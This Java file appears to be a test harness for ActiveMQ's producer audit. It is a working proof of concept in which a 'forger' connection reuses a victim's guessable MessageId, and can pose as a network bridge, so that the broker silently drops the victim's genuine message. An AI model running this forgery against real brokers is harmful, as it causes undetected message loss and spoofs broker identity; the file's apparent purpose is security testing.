// Two JMS connections for the producer audit, with Debian's ActiveMQ JMS
// client:
//   java JmsForge URL QUEUE [VICTIM FORGER]
// VICTIM and FORGER each say what a connection is: "client" (a plain JMS
// connection, the default) or "bridge" (one that first sends a BrokerInfo
// with networkConnection=true, as ActiveMQ's network bridge does), either
// followed by ":USER:PASSWORD" to log in. The victim's connection sends
// "v1" with MessageId VICTIM:1:1:1; the forger then sends "forged" with
// MessageId VICTIM:1:1:2 (the victim's next, easy to guess); then the
// victim sends "v2" with VICTIM:1:1:2, and once more (its resend: a
// failover transport's, or a bridge's after a lost answer). A broker whose
// audit the forger reaches drops "v2" as a resend and answers it as taken:
// it is lost. Sends as JmsNetPeer does (a chosen MessageId), with no
// brokerPath. Prints "sent".
import javax.jms.*;
import org.apache.activemq.ActiveMQConnection;
import org.apache.activemq.ActiveMQConnectionFactory;
import org.apache.activemq.command.ActiveMQQueue;
import org.apache.activemq.command.BrokerId;
import org.apache.activemq.command.BrokerInfo;
import org.apache.activemq.command.ProducerId;

public class JmsForge {
    public static void main(String[] a) {
        try {
            run(a);
            System.exit(0);
        } catch (Exception e) {
            e.printStackTrace();
            System.exit(1);	// the transport's thread would keep the JVM up
        }
    }

    static void run(String[] a) throws Exception {
        ActiveMQConnectionFactory f = new ActiveMQConnectionFactory(a[0]);
        ActiveMQConnection victim = open(f, a.length > 2 ? a[2] : "client", "victim");
        ActiveMQConnection forger = open(f, a.length > 3 ? a[3] : "client", "forger");
        ProducerId pid = new ProducerId(victim.getConnectionInfo().getConnectionId().getValue()
                                        + ":1:1");
        ActiveMQQueue q = new ActiveMQQueue(a[1]);
        JmsNetPeer.send(victim, pid, q, 1, "v1", null);
        JmsNetPeer.send(forger, pid, q, 2, "forged", null);
        JmsNetPeer.send(victim, pid, q, 2, "v2", null);
        JmsNetPeer.send(victim, pid, q, 2, "v2, resent", null);
        victim.close();
        forger.close();
        System.out.println("sent");
    }

    // what: client or bridge, then :USER:PASSWORD or nothing.
    static ActiveMQConnection open(ActiveMQConnectionFactory f, String what, String name)
            throws Exception {
        String[] w = what.split(":");
        ActiveMQConnection c = (ActiveMQConnection) (w.length == 3
            ? f.createConnection(w[1], w[2]) : f.createConnection());
        if (w[0].equals("bridge")) {
            BrokerInfo bi = new BrokerInfo();
            bi.setBrokerId(new BrokerId("ID:" + name));
            bi.setBrokerName(name);
            bi.setNetworkConnection(true);
            c.getTransportChannel().oneway(bi);
        }
        c.start();
        return c;
    }
}
